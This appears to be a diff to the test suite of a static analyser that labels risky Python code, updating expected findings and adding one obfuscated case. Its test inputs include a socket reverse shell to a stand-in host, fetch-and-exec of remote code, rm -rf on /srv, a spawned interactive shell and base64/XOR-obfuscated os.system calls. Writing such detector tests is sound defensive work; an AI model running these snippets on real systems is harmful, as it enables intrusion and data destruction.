@@ -37,7 +37,7 @@ describe('Python that runs commands', () => {
     [lines('cmd = ["rm"]', 'cmd.append("-rf")', 'import subprocess', 'subprocess.call(cmd + ["/srv"])'), ['argv rm -rf /srv']],
     ["import os; os.popen(f'cat {path}')", ['shell cat … (dynamic)']],
     ["import os; (lambda c: os.system(c))('id')", ['shell id']],
-    ["import pty; pty.spawn('/bin/sh')", ['argv /bin/sh']],
+    ["import pty; pty.spawn('/bin/sh')", ['exec /bin/sh interactive', 'argv /bin/sh']],
   ])('%s', (code, expected) => {
     expect(findings(read('python', code))).toEqual(expected);
   });
@@ -60,6 +60,7 @@ describe('Python that hides what it calls', () => {
     ["import codecs; exec(codecs.decode('cevag(1)', 'rot13'))", ['code.eval decoded', 'code print(1) (decoded)']],
     ["exec(bytes.fromhex('7072696e7428312921').decode())", ['code.eval decoded', 'code print(1)! (decoded)']],
     ["import zlib; exec(zlib.decompress(b'x'))", ['code.eval decoded']],
+    ['import os; os.system("".join(chr(ord(c) ^ 1) for c in __import__("base64").b64decode(x)))', ['exec … dynamic', 'shell … (decoded)']],
     ['eval(input())', ['code.eval dynamic']],
     ["import urllib.request as u; exec(u.urlopen('https://a.example/x.py').read())", ['net.request a.example', 'code.eval downloaded']],
   ])('%s', (code, expected) => {
@@ -83,7 +84,7 @@ describe('Python that talks to the network', () => {
     ["from urllib.request import urlretrieve; urlretrieve('https://a.example', '/tmp/x')", ['net.download', 'file.write']],
     [
       "import socket, os, subprocess; s = socket.socket(); s.connect(('a.example', 1)); os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh'])",
-      ['net.request raw-socket reverse-shell'],
+      ['net.request raw-socket reverse-shell', 'exec interactive'],
     ],
     ["import socket; s = socket.socket(); s.connect(('localhost', 5432)); print('up')", ['net.request raw-socket']],
   ])('%s', (code, expected) => {
